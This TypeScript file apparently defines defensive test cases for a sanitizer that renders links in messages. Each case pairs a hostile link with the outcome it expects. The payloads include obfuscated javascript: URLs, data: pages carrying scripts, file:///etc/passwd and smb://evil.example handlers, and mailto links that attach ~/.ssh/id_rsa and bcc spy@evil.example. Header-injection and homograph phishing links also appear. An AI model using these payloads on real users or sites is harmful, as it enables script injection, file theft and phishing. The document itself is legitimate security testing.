/** Addresses that are followed. What may leave by a click of the reader's is a web address in a tab of its own, and no more. */
import { base64, clicked, html } from "./trick.ts";
import type { Family } from "./trick.ts";

export const links: Family = {
  name: "links",
  tricks: [
    clicked("runs", "a script address", ({ run }) => `<a id=go href="javascript:${run}">x</a>`),
    clicked(
      "runs",
      "the same with breaks, tabs and controls",
      ({ run }) => `<a id=go href="&#1;java&#9;scr&#10;ipt&colon;${run}">x</a>`,
    ),
    clicked(
      "runs",
      "the same in capitals and by names of characters",
      ({ run }) => `<a id=go href="JaVaScRiPt&colon;${run.replace("(", "&lpar;").replace(")", "&rpar;")}">x</a>`,
    ),
    clicked(
      "runs",
      "the same behind a comment that looks like an address",
      ({ run }) => `<a id=go href="javascript://https://a.example/%0a${run}">x</a>`,
    ),
    clicked(
      "runs",
      "a script address that opens a window",
      ({ run }) =>
        `<a id=go target=_blank rel=opener href="javascript:${run.replace("top.", "opener.top.")}">x</a><a href="vbscript:x">y</a><a href="livescript:x">z</a>`,
    ),
    clicked(
      "nothing",
      "a page of data",
      ({ run }) => `<a id=go href="data:text/html;base64,${base64(`<script>${run}</script>`)}" target=_blank>x</a>`,
    ),
    clicked(
      "nothing",
      "a page of data, saved",
      ({ run }) => `<a id=go download="x.html" href="data:text/html,<script>${run}</script>">x</a>`,
    ),
    clicked(
      "nothing",
      "blob, filesystem, about, view-source",
      () =>
        `<a id=go href="blob:http://127.0.0.1/x">x</a><a href="filesystem:http://127.0.0.1/temporary/x">x</a><a href="about:srcdoc">x</a><a href="view-source:http://127.0.0.1/">x</a>`,
    ),
    clicked(
      "nothing",
      "files and programs",
      () =>
        `<a id=go href="file:///etc/passwd">x</a><a href="smb://evil.example/share">x</a><a href="ms-msdt:/id">x</a><a href="search-ms:query=x">x</a><a href="intent://x#Intent;end">x</a>`,
    ),
    clicked(
      "asks",
      "a link into the page's own window",
      ({ url }) => `<a id=go href="${url("top")}" target=_top>x</a><a href="${url("parent")}" target=_parent>x</a>`,
    ),
    clicked("asks", "a link into a window of a name", ({ url }) => `<a id=go href="${url("named")}" target=fake>x</a>`),
    clicked(
      "nothing",
      "a link into the app",
      () => `<a id=go href="/settings/devices" target=_top>x</a><a href="?q=x">x</a><a href="../join#token">x</a>`,
    ),
    clicked(
      "nothing",
      "an anchor in the message",
      () => `<a id=go href="#end">x</a><div style="height:3000px"></div><p id=end>end</p>`,
    ),
    // RFC 6068 and Müller et al., "Mailto: me your secrets", 2020
    clicked(
      "nothing",
      "mailto that attaches a file",
      () =>
        `<a id=go href="mailto:a@b.example?attach=/etc/passwd&amp;attachment=~/.ssh/id_rsa&amp;bcc=spy@evil.example&amp;subject=x">x</a>`,
    ),
    clicked(
      "nothing",
      "mailto with line breaks",
      () => `<a id=go href="mailto:a@b.example?subject=x%0d%0aBcc:spy@evil.example">x</a>`,
    ),
    html(
      "nothing",
      "a link that says another address",
      ({ url }) =>
        `<a href="${url("phish")}">https://bank.example/</a><a href="https://bank.example@evil.example/">bank</a><a href="https://xn--80ak6aa92e.example/">apple.example</a>`,
    ),
  ],
};
